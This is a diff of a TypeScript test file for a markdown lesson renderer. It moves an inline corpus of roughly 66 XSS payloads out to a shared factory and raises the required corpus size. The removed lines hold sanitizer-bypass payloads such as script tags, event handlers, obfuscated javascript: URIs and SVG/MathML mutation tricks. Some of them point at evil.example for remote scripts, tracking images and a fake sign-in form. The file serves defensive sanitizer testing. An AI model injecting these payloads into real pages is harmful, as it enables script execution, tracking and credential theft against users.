@@ -1,82 +1,14 @@
 import { readFileSync } from 'node:fs';
-import { performance } from 'node:perf_hooks';
 import sanitizeHtml from 'sanitize-html';
 import { describe, expect, it } from 'vitest';
+import { HOSTILE } from '../../../tests/factories/hostile-html.ts';
+import { effortOf } from '../../../tests/harness/effort.ts';
 import { input } from '../../../tests/harness/inputs.ts';
 import { renderLesson } from './render.ts';
 
 const picture = (src: string) =>
   src.includes('gone') ? null : { url: `/api/v1/files/${encodeURIComponent(src)}`, width: 800, height: 400 };
 const html = (markdown: string) => renderLesson(markdown, picture).html;
-
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
-  '<script\n>alert(1)</script\n>',
-  '<scr<script>ipt>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<img src=x oNeRrOr="alert(1)">',
-  '<img/src=x/onerror=alert(1)>',
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="data:text/html;base64,PHNjcmlwdD4=">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java&#10;script:alert(1)">x</a>',
-  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="&nbsp;javascript:alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="//evil.example/x">x</a>',
-  '<a href="x" onclick="alert(1)" onmouseover=alert(2)>x</a>',
-  '[x](javascript:alert(1))',
-  '[x](JAVASCRIPT&colon;alert(1))',
-  '[x](javascript&#58;alert(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[x]: javascript:alert(1)\n\n[x]',
-  '<javascript:alert(1)>',
-  '![x](javascript:alert(1))',
-  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
-  '![x" onerror="alert(1)](y.png)',
-  '![x](y.png "t\\" onerror=\\"alert(1)")',
-  '![x](https://evil.example/track.png)',
-  '<img src="https://evil.example/track.png" srcset="https://evil.example/2.png 2x">',
-  '<p style="background:url(https://evil.example/x)">x</p>',
-  '<p style="width:expression(alert(1))">x</p>',
-  '<div style="position:fixed;inset:0;z-index:9999"><a href="https://evil.example">Sign in</a></div>',
-  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
-  '<link rel=stylesheet href=https://evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
-  '<textarea><img src=x onerror=alert(1)></textarea>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<video src=x onerror=alert(1) autoplay></video><audio src=https://evil.example/a.mp3></audio>',
-  '<details open ontoggle=alert(1)><summary>x</summary></details>',
-  '<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>',
-  '<h2 id="root" name="getElementById">x</h2><p id=app>y</p>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<!--><script>alert(1)</script>-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<a href="https://ok.example" target=_top rel=opener>x</a>',
-  '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
-  '```x title="</figcaption><script>alert(1)</script>"\ncode\n```',
-  '> [!NOTE] <img src=x onerror=alert(1)>\n> text',
-  '# <img src=x onerror=alert(1)> heading',
-  '| <script>alert(1)</script> |\n|:-|\n| <img src=x onerror=alert(1)> |',
-  '<td style="text-align:left;background:url(javascript:alert(1))">x</td>',
-];
 
 /** Every tag left in the result with its attributes, as a parser (not a pattern) sees them. */
 function tagsOf(result: string): { tag: string; attributes: Record<string, string> }[] {
@@ -113,7 +45,7 @@ function expectSafe(result: string): void {
 
 describe('hostile lessons', () => {
   it('has a corpus worth the name', () => {
-    expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(60);
+    expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(180);
   });
 
   it.each(HOSTILE)('%j becomes harmless', markdown => {
@@ -206,15 +138,12 @@ describe('lessons', () => {
 
 describe('a real course', () => {
   const ossf = input('course/ossf-lfd121/lfd121.md');
-  it.skipIf(!ossf)('comes out safe, and fast enough to render on the fly', () => {
+  it.skipIf(!ossf)('comes out safe, and fast enough to render on the fly', async () => {
     const text = readFileSync(ossf as string, 'utf8');
     expectSafe(html(text));
     const lesson = text.slice(0, 50_000);
-    const times = Array.from({ length: 5 }, () => {
-      const started = performance.now();
-      html(lesson);
-      return performance.now() - started;
-    });
+    const times: number[] = [];
+    for (let n = 0; n < 5; n++) times.push((await effortOf(() => html(lesson))).ms);
     expect(Math.min(...times)).toBeLessThan(50);
   });
 });
